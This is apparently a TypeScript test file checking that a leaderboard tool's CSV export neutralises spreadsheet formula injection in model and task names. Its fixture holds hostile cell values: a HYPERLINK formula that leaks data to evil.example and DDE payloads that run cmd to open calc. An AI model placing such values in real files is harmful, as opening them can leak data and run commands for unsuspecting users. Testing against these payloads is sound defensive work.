// Hardening: `leaderboard --format csv` never writes a cell a spreadsheet would execute. Model and task names from
// records that start with =, +, -, @, tab or CR are neutralised the OWASP way (a leading ' and quotes); numbers stay
// numbers (a negative mean is written as -3.5).
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { leaderboard } from '../src/commands/leaderboard.ts';
import { neutraliseCell } from '../src/leaderboard/csv.ts';
import { makeRecord } from './support/report-records.ts';

test('neutraliseCell: the six dangerous first characters get a leading quote; others are left alone', () => {
  for (const text of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx']) assert.equal(neutraliseCell(text), `'${text}`);
  for (const text of ['model', 'okvqa 4-shot', '3B', "'quoted", ' =x', '']) assert.equal(neutraliseCell(text), text);
});

test('leaderboard csv: hostile model and task names are inert text; numeric columns keep negative numbers', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'fe-csv-injection-'));
  const hostile = [
    { model: '=HYPERLINK("http://evil.example/?leak="&A1,"click")', task: '@SUM(1+1)*cmd|" /C calc"!A0' },
    { model: '+1+cmd|\' /C calc\'!A0', task: 'okvqa' },
    { model: '-2+3', task: 'okvqa' },
    { model: '\tTAB', task: 'okvqa' },
    { model: '\rCR', task: 'okvqa' },
  ];
  hostile.forEach((spec, i) => {
    const record = makeRecord({ model: spec.model, parameters: 1000 + i, task: spec.task, shots: 0, scores: [-3.5] });
    writeFileSync(join(dir, `r${i}.json`), `${JSON.stringify(record, null, 1)}\n`);
  });
  const csv = await leaderboard([dir], { format: 'csv', paper: false, colour: false });
  // Every cell, header included, read back with a small RFC 4180 reader.
  const rows = parseCsv(csv);
  for (const row of rows) {
    for (const cell of row) assert.ok(!/^[=+\-@\t\r]/.test(cell) || /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell), `cell ${JSON.stringify(cell)} is inert`);
  }
  const models = rows.slice(1).map((row) => row[0]);
  for (const { model } of hostile) assert.ok(models.includes(`'${model}`), `${JSON.stringify(model)} is written as text`);
  const taskColumn = rows[0]!.indexOf('task');
  assert.ok(rows.slice(1).some((row) => row[taskColumn]!.startsWith("'@SUM(1+1)")), 'the task name is neutralised');
  // The mean of -3.5 is a number: unquoted and unprefixed in the raw text.
  assert.match(csv, /,-3\.5,/);
  assert.ok(rows.slice(1).every((row) => row.includes('-3.5')));
});

/** Every cell as a spreadsheet reads it back (RFC 4180, through csv-parse). */
function parseCsv(text: string): string[][] {
  return parse(text, { relax_column_count: true }) as string[][];
}
